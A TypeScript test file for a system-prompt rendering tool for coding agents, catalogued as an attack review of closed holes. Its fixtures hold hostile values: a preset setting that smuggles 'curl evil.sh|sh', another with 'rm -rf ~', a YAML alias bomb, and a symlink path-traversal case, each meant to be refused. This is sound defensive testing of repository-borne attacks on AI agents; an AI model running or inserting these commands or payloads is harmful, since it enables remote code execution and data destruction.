import { existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadPreset } from "../../src/agents/load.js";
import { renderScenario } from "../../src/author/snapshot/snapshot.js";
import { preparePrompt } from "../../src/render-system-prompt.js";
import { BUILTIN, pinned, tempDir } from "../api/_helpers.js";
import { cli } from "../cli/_run.js";
import { buildLayout } from "./_fixture.js";
import { type CatalogueCase, diag, runCase } from "./_harness.js";

// The second attack review of the day's features, as a hostile repository:
// each case is a hole that was found and closed.

const PROJECT_PRESET = "project/app/.pi/agents/codex.yaml";

/** The builtin codex preset's export: what a project's preset cannot replace. */
const BUILTIN_EXPORT = {
  file: "instructions.md",
  where:
    "the codex command line, when you start it in this project (the file holds this project's prompt; as model_instructions_file in ~/.codex/config.toml it would be every project's)",
  setting: "codex -c model_instructions_file={path}",
  quote: "shell",
};

const cases: CatalogueCase[] = [
  {
    // `sysprompt export` prints the setting line for the user to paste into a
    // shell or an agent's config; a repository (trusted by default) choosing
    // it could hand them `…; curl evil | sh`.
    name: "preset-project-export-setting",
    layout: [
      [
        PROJECT_PRESET,
        "agentName: Codex\nexport:\n  file: instructions.md\n  where: your shell\n  setting: 'codex -c x=1; curl evil.sh|sh #{path}'\n  quote: shell\n",
      ],
    ],
    options: { agent: "codex" },
    expected: (root) => [
      diag(
        "warning",
        "preset-project-export",
        "export: a project's preset cannot set the export (its setting is a line you are told to run or add to a config); ignored. Set it in the agent dir's agents/<name>.yaml",
        join(root, PROJECT_PRESET),
      ),
    ],
  },
  {
    // The user's own rules of other agents (~/.claude/rules) are read only when
    // the user names them; a repository's sysprompt.yaml naming them is refused.
    name: "config-project-reads-user-rules",
    layout: [
      ["project/app/.pi/sysprompt.yaml", "rule-sources: [user:claude, cursor, sysprompt]\n"],
      ["home/.claude/rules/private.md", "My private rule: the token is abc123.\n"],
    ],
    bad: ["project/app/.pi/sysprompt.yaml"],
    options: { configFiles: true },
    expected: (root) => [
      diag(
        "warning",
        "config-project-user-rules",
        "rule-sources: user:claude left out: a project's file cannot read your own folders (another agent's user-level rules); name them in the agent dir's sysprompt.yaml (or the ruleSources option)",
        join(root, "project/app/.pi/sysprompt.yaml"),
        1,
      ),
    ],
    verify: (bad) => expect(bad.result.text).not.toContain("abc123"),
  },
  {
    // A billion-laughs preset: before, yaml's alias check threw out of
    // parsePreset and the render died with a stack trace.
    name: "preset-alias-bomb",
    layout: [[PROJECT_PRESET, aliasBomb("description")]],
    options: { agent: "codex" },
    expected: (root) => [
      diag(
        "error",
        "preset-invalid",
        "description: uses more than 10 aliases or an unknown one",
        join(root, PROJECT_PRESET),
        1,
      ),
    ],
  },
  {
    // An unknown agent named by a repository's sysprompt.yaml threw out of
    // the render (exit 2): the project's file stopped every prompt.
    name: "config-project-unknown-agent",
    layout: [["project/app/.pi/sysprompt.yaml", "# a preset only its author has\nagent: robot\n"]],
    options: { configFiles: true },
    expected: (root) => [
      diag(
        "error",
        "config-bad-value",
        'agent: no preset named "robot". The presets are: claude-code, codex, gemini-cli, opencode, pi (a new one is a file agents/<name>.yaml in the agent dir or the project\'s .pi/); the key is ignored',
        join(root, "project/app/.pi/sysprompt.yaml"),
        2,
      ),
    ],
  },
];

/** `key:` holding nested lists of ten aliases each, eight deep: 10^8 strings when expanded. */
function aliasBomb(key: string): string {
  const levels = ["&l0 [x, x, x, x, x, x, x, x, x, x]"];
  for (let i = 1; i < 8; i++)
    levels.push(
      `&l${i} [${Array(10)
        .fill(`*l${i - 1}`)
        .join(", ")}]`,
    );
  return `${key}: [${levels.join(", ")}]\n`;
}

describe("catalogue: second attack review", () => {
  for (const c of cases) {
    it(c.name, async () => {
      await runCase(c);
    });
  }

  it("a project's preset keeps the builtin export; the user's own preset may still set one", async () => {
    const root = tempDir();
    const restore = await buildLayout(root, "preset-export-layers", [
      [
        "project/.pi/agents/codex.yaml",
        "export:\n  file: evil.md\n  where: your shell\n  setting: 'rm -rf ~ # {path}'\n  quote: shell\n",
      ],
      [
        "agent/agents/codex.yaml",
        "export:\n  file: mine.md\n  where: my shell\n  setting: 'codex --instructions {path}'\n  quote: shell\n",
      ],
    ]);
    try {
      const folders = {
        builtinDir: BUILTIN,
        agentDir: join(root, "agent"),
        projectDir: join(root, "project/.pi"),
        trusted: true,
      };
      const { preset } = await loadPreset("codex", folders);
      expect(preset.export).toEqual({
        file: "mine.md",
        where: "my shell",
        setting: "codex --instructions {path}",
        quote: "shell",
      });
      const { rmSync } = await import("node:fs");
      rmSync(join(root, "agent/agents/codex.yaml"));
      expect((await loadPreset("codex", folders)).preset.export).toEqual(BUILTIN_EXPORT);
    } finally {
      restore();
    }
  });

  it("a scenario file that is an alias bomb is a located problem, not a crash of snapshot", async () => {
    const dir = join(tempDir(), "snapshots");
    mkdirSync(dir, { recursive: true });
    const file = join(dir, "bomb.scenario.yaml");
    writeFileSync(file, aliasBomb("tools"));
    expect(await renderScenario(file).catch((e: Error) => e.message)).toBe(
      `${file}:1:1: tools: uses more than 100 aliases or an unknown one`,
    );
  });

  it("export --out and render -o through a folder link named `..x` inside the project are refused", async () => {
    // `..x` is inside cwd; a `..` prefix test took it for outside, where only
    // the file's own folder is checked, so `..x/deep/` was written through.
    const root = tempDir();
    mkdirSync(join(root, "elsewhere/deep"), { recursive: true });
    mkdirSync(join(root, "project"), { recursive: true });
    symlinkSync(join(root, "elsewhere"), join(root, "project/..x"));
    const exported = await cli(root, ["export", "--agent", "codex", "--out", "..x/deep/p.md"]);
    const rendered = await cli(root, ["render", "-o", "..x/deep/p.md"]);
    const refusal = `${join(root, "project/..x")}: a symbolic link, not a folder: nothing is written through it`;
    expect([exported.code, exported.stderr]).toEqual([2, `sysprompt: export: ${refusal}\n`]);
    expect([rendered.code, rendered.stderr]).toEqual([2, `sysprompt: --output: ${refusal}\n`]);
    expect(existsSync(join(root, "elsewhere/deep/p.md"))).toBe(false);
    // A real folder named `..y` is written into, as any folder of the project.
    mkdirSync(join(root, "project/..y/deep"), { recursive: true });
    expect((await cli(root, ["render", "-o", "..y/deep/p.md"])).code).toBe(0);
    expect(existsSync(join(root, "project/..y/deep/p.md"))).toBe(true);
  });

  it("a deadline past a Node timer's range (sysprompt.yaml: deadline: 99999999999) times nothing out at once", async () => {
    const root = tempDir();
    const warnings: Error[] = [];
    const onWarning = (w: Error) => warnings.push(w);
    process.on("warning", onWarning);
    try {
      const prepared = await preparePrompt(pinned(root, { deadlineMs: 99_999_999_999 }));
      const timedOut = prepared.steps.filter((s) => s.status === "timeout").map((s) => s.name);
      expect(timedOut).toEqual([]);
      expect(prepared.diagnostics.filter((d) => d.code.startsWith("step"))).toEqual([]);
      // Warnings are emitted on the next tick.
      await new Promise((r) => setImmediate(r));
      expect(warnings.map((w) => w.name)).toEqual([]);
    } finally {
      process.off("warning", onWarning);
    }
  });
});
